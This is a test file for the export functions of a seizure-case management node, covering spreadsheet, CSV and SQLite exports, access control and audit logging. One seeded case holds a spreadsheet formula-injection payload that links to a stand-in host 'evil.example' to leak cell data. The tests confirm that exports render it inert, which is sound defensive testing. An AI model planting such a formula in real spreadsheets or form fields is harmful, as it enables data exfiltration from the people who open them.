/**
 * Exports on a real node over HTTP, checked the way an analyst would: the workbook opened by an
 * independent reader (openpyxl) holds the rows and values the API's search returns with the same
 * filters; the CSV starts with a BOM and parses back; a formula typed into a case comes out inert;
 * Arabic gives right-to-left sheets; the analyst database, unpacked by Python's zipfile, opens
 * with node:sqlite and its views answer; only analysts may export, and every export is audited.
 * `cen-node export` writes the same files with or without a running node.
 */
import { expect } from 'chai';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { EXPORT_COLUMNS, exportHeader } from '../../protocol/export-columns.ts';
import { apiPaths, type AuditPage, type CasePage } from '../../protocol/api.ts';
import type { Case, CaseInput } from '../../protocol/records.ts';
import { vocabularies, type Language } from '../../protocol/vocabulary/index.ts';
import { seedStore } from '../../node/seed/index.ts';
import { cenNode, startCenNode } from '../helpers/cli.ts';
import { extractZip, parseCsv, readWorkbook } from '../helpers/export-reader.ts';
import {
  makeTempDir,
  startTestNode,
  TEST_ADMIN_PASSWORD,
  type ApiClient,
  type TestNode,
} from '../helpers/node.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A2,"Open the case")';

const tricky: CaseInput = {
  ref: HYPERLINK,
  kind: 'seizure',
  form: 'simplified',
  status: 'validated',
  seizureDate: '2026-06-30',
  location: { type: 'seaport', name: 'Mombasa', lat: -4.04, lon: 39.66 },
  conveyance: { mode: 'sea-container', containerNumber: 'CSQU3054383' },
  detection: { method: 'scanner' },
  items: [{ itrArea: 'drugs', commodity: 'cocaine', quantity: 310, unit: 'kg', valueUsd: 9_300_000 }],
  narrative: '+1 container held at berth 11',
};

const header = (key: string, lang: Language = 'en') =>
  exportHeader(
    EXPORT_COLUMNS.find((column) => column.key === key)!,
    lang,
  );

/** A download as bytes (the helper client parses text; workbooks and zips are binary). */
async function download(
  client: ApiClient,
  path: string,
): Promise<{ status: number; headers: Headers; body: Buffer }> {
  const response = await fetch(`${client.baseUrl}${path}`, {
    headers: client.cookie ? { cookie: client.cookie } : {},
  });
  return {
    status: response.status,
    headers: response.headers,
    body: Buffer.from(await response.arrayBuffer()),
  };
}

async function searchAll(client: ApiClient, query: string): Promise<Case[]> {
  const cases: Case[] = [];
  let cursor: string | undefined;
  do {
    const page = await client.get<CasePage>(
      `${apiPaths.cases}?${query}&limit=100${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`,
    );
    expect(page.status).to.equal(200);
    cases.push(...page.body.items);
    cursor = page.body.nextCursor;
  } while (cursor);
  return cases;
}

describe('exports over the API', function () {
  this.timeout(120_000);
  let t: TestNode;
  let analyst: ApiClient;
  let stored: Case;
  let temp: Awaited<ReturnType<typeof makeTempDir>>;

  before(async function () {
    t = await startTestNode({ country: 'KE' });
    temp = await makeTempDir('cen-export-api-');
    await seedStore(t.node.services.store, { cases: 400, seed: 9 });
    const officer = await t.loginAs('officer');
    const created = await officer.post<Case>(apiPaths.cases, tricky);
    expect(created.status, JSON.stringify(created.body)).to.equal(201);
    stored = created.body;
    analyst = await t.loginAs('analyst');
  });
  after(async function () {
    await t?.close();
    await temp?.remove();
  });

  it('gives a workbook that openpyxl reads with the rows and values of the same search', async function () {
    const query = 'itrArea=drugs&from=2024-01-01&status=validated';
    const expected = await searchAll(analyst, query);
    expect(expected.length).to.be.above(20);
    const response = await download(analyst, `${apiPaths.exportCasesXlsx}?${query}`);
    expect(response.status).to.equal(200);
    expect(response.headers.get('content-type')).to.equal(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(response.headers.get('content-disposition')).to.match(
      /^attachment; filename="cen-cases-\d{4}-\d{2}-\d{2}\.xlsx"$/,
    );
    const file = join(temp.path, 'drugs.xlsx');
    await writeFile(file, response.body);

    const book = await readWorkbook(file);
    expect(book.sheets).to.have.length(1);
    const [headers, ...rows] = book.sheets[0]!.rows;
    expect(headers).to.deep.equal(EXPORT_COLUMNS.map((column) => exportHeader(column, 'en')));
    expect(book.sheets[0]!.rightToLeft).to.equal(false);
    const at = (key: string) => headers!.indexOf(header(key));
    expect(rows.map((row) => row[at('id')])).to.deep.equal(expected.map((c) => c.id));
    for (const [i, c] of expected.entries()) {
      const row = rows[i]!;
      const item = c.items[0]!;
      expect(row[at('seizureDate')], c.id).to.equal(`${c.seizureDate}T00:00:00`);
      expect(row[at('kind')]).to.equal(c.kind);
      expect(row[at('status.label')]).to.equal(vocabularies.caseStatus.label(c.status, 'en'));
      expect(row[at('locationType')]).to.equal(c.location?.type ?? null);
      expect(row[at('detectionMethod.label')]).to.equal(
        c.detection ? vocabularies.detectionMethod.label(c.detection.method, 'en') : null,
      );
      expect(row[at('item1.itrArea')]).to.equal(item.itrArea);
      expect(row[at('item1.commodity.label')]).to.equal(vocabularies.commodity.label(item.commodity, 'en'));
      expect(row[at('item1.quantity')]).to.equal(item.quantity ?? null);
      expect(row[at('item1.unit')]).to.equal(item.unit ?? null);
      expect(row[at('item1.valueUsd')]).to.equal(item.valueUsd ?? null);
      expect(row[at('itemCount')]).to.equal(c.items.length);
      expect(row[at('offenderCount')]).to.equal(c.offenders.length);
      expect(row[at('version')]).to.equal(c.version);
    }
    // The formula typed into the case is text with an apostrophe: no spreadsheet runs it.
    const mine = rows.find((row) => row[at('id')] === stored.id)!;
    expect(mine[at('ref')]).to.equal(`'${HYPERLINK}`);
    expect(mine[at('narrative')]).to.equal(`'${tricky.narrative}`);
    expect(mine[at('lat')]).to.equal(-4.04);
  });

  it('gives Arabic users a right-to-left sheet with Arabic headers', async function () {
    const response = await download(analyst, `${apiPaths.exportCasesXlsx}?commodity=cocaine&lang=ar`);
    expect(response.status).to.equal(200);
    const file = join(temp.path, 'ar.xlsx');
    await writeFile(file, response.body);
    const sheet = (await readWorkbook(file)).sheets[0]!;
    expect(sheet.rightToLeft).to.equal(true);
    expect(sheet.name).to.equal('القضايا');
    expect(sheet.rows[0]).to.deep.equal(EXPORT_COLUMNS.map((column) => exportHeader(column, 'ar')));
    const at = sheet.rows[0]!.indexOf(header('item1.commodity.label', 'ar'));
    expect(sheet.rows.slice(1).map((row) => row[at])).to.include(
      vocabularies.commodity.label('cocaine', 'ar'),
    );
  });

  it('gives a CSV in UTF-8 with a BOM that round-trips through csv-parse', async function () {
    const expected = await searchAll(analyst, 'q=berth');
    expect(expected.map((c) => c.id)).to.include(stored.id);
    const response = await download(analyst, `${apiPaths.exportCasesCsv}?q=berth&lang=fr`);
    expect(response.status).to.equal(200);
    expect(response.headers.get('content-type')).to.equal('text/csv; charset=utf-8');
    expect([...response.body.subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
    const records = parseCsv(response.body.toString('utf8'));
    expect(records[0]).to.deep.equal(EXPORT_COLUMNS.map((column) => exportHeader(column, 'fr')));
    const at = (key: string) => records[0]!.indexOf(header(key, 'fr'));
    expect(records.slice(1).map((row) => row[at('id')])).to.deep.equal(expected.map((c) => c.id));
    const row = records.find((r) => r[at('id')] === stored.id)!;
    expect(row[at('ref')]).to.equal(`'${HYPERLINK}`);
    expect(row[at('item1.commodity.label')]).to.equal(vocabularies.commodity.label('cocaine', 'fr'));
    expect(row[at('item1.valueUsd')]).to.equal('9300000');
    expect(row[at('seizureDate')]).to.equal('2026-06-30');
  });

  it('refuses paging and unknown codes before sending anything', async function () {
    const paged = await analyst.get<{ error: { code: string; details: { path: string }[] } }>(
      `${apiPaths.exportCasesXlsx}?limit=10&commodity=unobtainium`,
    );
    expect(paged.status).to.equal(400);
    expect(paged.body.error.details.map((issue) => issue.path)).to.have.members(['limit', 'commodity']);
  });

  it('gives the analyst database: a zip whose SQLite opens and whose views answer', async function () {
    const response = await download(analyst, `${apiPaths.exportAnalystDb}?lang=es`);
    expect(response.status).to.equal(200);
    expect(response.headers.get('content-type')).to.equal('application/zip');
    const zip = join(temp.path, 'analyst.zip');
    await writeFile(zip, response.body);
    const dir = join(temp.path, 'analyst');
    await extractZip(zip, dir);
    const folder = join(dir, `cen-analyst-db-${new Date().toISOString().slice(0, 10)}`);
    const readme = await readFile(join(folder, 'README.md'), 'utf8');
    expect(readme).to.include('`seizures_by_month_commodity`').and.include('`persons`');

    const everything = await searchAll(analyst, 'status=validated');
    const drafts = await searchAll(analyst, 'status=draft');
    const db = new DatabaseSync(join(folder, 'cen-analyst.sqlite'), { readOnly: true });
    try {
      const one = <T>(sql: string, ...params: string[]) => db.prepare(sql).get(...params) as T;
      expect(one<{ n: number }>('SELECT COUNT(*) AS n FROM cases').n).to.be.at.least(
        everything.length + drafts.length,
      );
      const cocaine = one<{ cases: number; quantity: number; commodity_label: string }>(
        "SELECT cases, quantity, commodity_label FROM seizures_by_month_commodity WHERE month = '2026-06' AND commodity = 'cocaine' AND unit = 'kg'",
      );
      expect(cocaine.cases).to.be.at.least(1);
      expect(cocaine.quantity).to.be.at.least(310);
      expect(cocaine.commodity_label).to.equal(vocabularies.commodity.label('cocaine', 'es'));
      const legs = one<{ n: number }>('SELECT COUNT(*) AS n FROM cases_by_route_country');
      expect(legs.n).to.be.above(0);
      // The analyst may read nominal data, so the persons linked to the cases are there.
      expect(one<{ n: number }>('SELECT COUNT(*) AS n FROM persons').n).to.be.above(0);
      expect(one<{ ref: string }>('SELECT ref FROM cases WHERE id = ?', stored.id).ref).to.equal(HYPERLINK);
    } finally {
      db.close();
    }
    const casesCsv = parseCsv(await readFile(join(folder, 'csv', 'cases.csv'), 'utf8'));
    const refAt = casesCsv[0]!.indexOf('ref');
    expect(casesCsv.find((row) => row[0] === stored.id)![refAt]).to.equal(`'${HYPERLINK}`);
    const book = await readWorkbook(join(folder, 'cases.xlsx'));
    expect(book.sheets[0]!.rows.length - 1).to.equal(casesCsv.length - 1);
  });

  it('lets analysts export and refuses officers, auditors and strangers', async function () {
    const officer = await t.loginAs('officer');
    const auditor = await t.loginAs('auditor');
    for (const path of [apiPaths.exportCasesXlsx, apiPaths.exportCasesCsv, apiPaths.exportAnalystDb]) {
      expect((await download(analyst, path)).status, `analyst ${path}`).to.equal(200);
      expect((await officer.get(path)).status, `officer ${path}`).to.equal(403);
      expect((await auditor.get(path)).status, `auditor ${path}`).to.equal(403);
      expect((await download({ baseUrl: t.apiUrl } as ApiClient, path)).status, `anonymous ${path}`).to.equal(
        401,
      );
    }
  });

  it('records every export in the audit log with the filters as codes, never the search text', async function () {
    const auditor = await t.loginAs('auditor');
    const page = await auditor.get<AuditPage>(`${apiPaths.audit}?action=export&actor=analyst1&limit=100`);
    expect(page.status).to.equal(200);
    const details = page.body.items.map((entry) => entry.details as Record<string, unknown>);
    expect(details).to.deep.include({
      format: 'xlsx',
      filters: ['from=2024-01-01', 'itrArea=drugs', 'status=validated'],
      lang: 'en',
      count: (await searchAll(analyst, 'itrArea=drugs&from=2024-01-01&status=validated')).length,
    });
    expect(details.find((d) => d.format === 'csv' && (d.filters as string[]).includes('q'))).to.deep.include({
      filters: ['q'],
      lang: 'fr',
    });
    expect(details.find((d) => d.format === 'analyst-db')).to.include({ nominal: true });
    expect(JSON.stringify(page.body.items)).to.not.include('berth');
    expect(page.body.items.every((entry) => entry.outcome === 'ok')).to.equal(true);
  });
});

describe('cen-node export', function () {
  this.timeout(120_000);
  let temp: Awaited<ReturnType<typeof makeTempDir>>;
  let dataDir: string;

  before(async function () {
    temp = await makeTempDir('cen-export-cli-');
    dataDir = join(temp.path, 'node');
    const password = join(temp.path, 'password');
    await writeFile(password, TEST_ADMIN_PASSWORD);
    const init = await cenNode([
      'init',
      '--data',
      dataDir,
      '--name',
      'Export Test',
      '--country',
      'TZ',
      '--insecure-http',
      '--api-port',
      '0',
      '--admin-password-file',
      password,
    ]);
    expect(init.code, init.stderr).to.equal(0);
    const seeded = await cenNode(['seed', '--data', dataDir, '--cases', '120', '--seed', '3']);
    expect(seeded.code, seeded.stderr).to.equal(0);
  });
  after(async function () {
    await temp?.remove();
  });

  it('writes a case list and the analyst database without a running node, and never overwrites', async function () {
    const out = join(temp.path, 'revenue.csv');
    const exported = await cenNode([
      'export',
      '--data',
      dataDir,
      '--format',
      'csv',
      '--itr-area',
      'revenue',
      '--lang',
      'pt',
      '--out',
      out,
    ]);
    expect(exported.code, exported.stderr).to.equal(0);
    const count = Number(/Exported (\d+) cases to .* \(offline\)\./.exec(exported.stdout)?.[1]);
    const records = parseCsv(await readFile(out, 'utf8'));
    expect(records.length - 1)
      .to.equal(count)
      .and.be.above(0);
    expect(records[0]).to.deep.equal(EXPORT_COLUMNS.map((column) => exportHeader(column, 'pt')));
    const areaAt = records[0]!.indexOf(header('item1.itrArea', 'pt'));
    expect(new Set(records.slice(1).map((row) => row[areaAt]))).to.deep.equal(new Set(['revenue']));

    const again = await cenNode(['export', '--data', dataDir, '--format', 'csv', '--out', out]);
    expect(again.code).to.equal(1);
    expect(again.stderr).to.include('exists already');

    const zip = join(temp.path, 'analyst.zip');
    const db = await cenNode(['export', '--data', dataDir, '--analyst-db', '--out', zip]);
    expect(db.code, db.stderr).to.equal(0);
    expect(db.stdout).to.match(/Exported the analyst database \(120 cases\) to .* \(offline\)\./);
    const dir = join(temp.path, 'unpacked');
    await extractZip(zip, dir);
    const folder = join(dir, `cen-analyst-db-${new Date().toISOString().slice(0, 10)}`);
    const sqlite = new DatabaseSync(join(folder, 'cen-analyst.sqlite'), { readOnly: true });
    try {
      expect((sqlite.prepare('SELECT COUNT(*) AS n FROM cases').get() as { n: number }).n).to.equal(120);
      // Without --nominal the database holds no persons or businesses at all.
      const nominal = sqlite
        .prepare("SELECT COUNT(*) AS n FROM sqlite_master WHERE name IN ('persons', 'businesses')")
        .get() as { n: number };
      expect(nominal.n).to.equal(0);
    } finally {
      sqlite.close();
    }
  });

  it('exports through the running node with progress, audited as the operator', async function () {
    const node = await startCenNode(dataDir);
    try {
      const out = join(temp.path, 'all-ar.xlsx');
      const exported = await cenNode(['export', '--data', dataDir, '--lang', 'ar', '--out', out]);
      expect(exported.code, exported.stderr).to.equal(0);
      expect(exported.stdout).to.include('Exported 120 cases').and.include('through the running node');
      const book = await readWorkbook(out);
      expect(book.sheets[0]!.rightToLeft).to.equal(true);
      expect(book.sheets[0]!.rows).to.have.length(121);
      const audit = await cenNode(['audit', 'export', '--data', dataDir]);
      const exports = audit.stdout
        .trim()
        .split('\n')
        .map(
          (line) => JSON.parse(line) as { action: string; actor: string; details: Record<string, unknown> },
        )
        .filter((entry) => entry.action === 'export');
      expect(exports.map((entry) => entry.details.format)).to.deep.equal(['csv', 'analyst-db', 'xlsx']);
      expect(exports.every((entry) => entry.actor.startsWith('cli:'))).to.equal(true);
    } finally {
      await node.stop();
    }
  });
});
